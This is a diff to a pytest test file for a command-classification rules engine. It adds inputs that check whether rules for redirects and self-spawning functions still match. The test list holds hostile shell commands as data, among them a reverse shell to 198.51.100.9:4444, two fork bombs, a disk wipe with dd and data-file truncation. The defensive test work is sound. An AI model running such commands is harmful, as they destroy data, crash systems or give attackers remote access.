@@ -133,13 +133,16 @@ _WILDCARD_LINES = [
     "ls -la", "frob /etc/shadow", "frob -o /etc/cron.d/job URL", "echo x > ~/.bashrc", "cp a.txt /etc/hosts",
     "sudo frob --delete /", "tee -a /var/log/auth.log", "frob -c ':!/bin/sh'", "sed -i s/a/b/ .git/config",
     "mytool publish --to prod", "dd if=/dev/zero of=/dev/sda", "cat x > /dev/tcp/198.51.100.9/4444",
+    ": > orders.csv", "job.sh >> /var/log/job.log 2>&1", "frob > /var/lib/mysql/ibdata1", ":(){ :|:& };:",
+    "bomb(){ bomb | bomb & }; bomb", "sh -i >& /dev/tcp/198.51.100.9/4444 0>&1", "frob 2> /var/log/auth.log",
 ]
 
 
 @pytest.mark.parametrize("line", _WILDCARD_LINES)
 def test_the_rules_for_every_program_left_out_are_those_that_cannot_match(line: str) -> None:
-    """A rule for every program is skipped without an unknown program (or without a written path)
-    only when it would fail there: the filtered set matches exactly what the whole set matches."""
+    """A rule for every program is skipped without an unknown program (or without a written path, a
+    redirect, a function that spawns itself) only when it would fail there: the filtered set matches
+    exactly what the whole set matches."""
     from dongle.classify.command import _facts
     from dongle.rules.engine import load_rules, matches
     from dongle.shell.parse import parse_command
@@ -152,6 +155,8 @@ def test_the_rules_for_every_program_left_out_are_those_that_cannot_match(line: 
             every = [r.id for r in rules.wildcard if matches(r, f)]
             kept = [r.id for r in rules.wildcards(unknown, bool(f.write_paths)) if matches(r, f)]
             assert kept == every
+            state = (unknown, bool(f.write_paths), bool(inv.redirects), inv.spawns_self)
+            assert [r.id for r in rules.wildcards(*state) if matches(r, f)] == every
 
 
 def test_the_quicker_init_keeps_what_a_frozen_dataclass_promises() -> None:
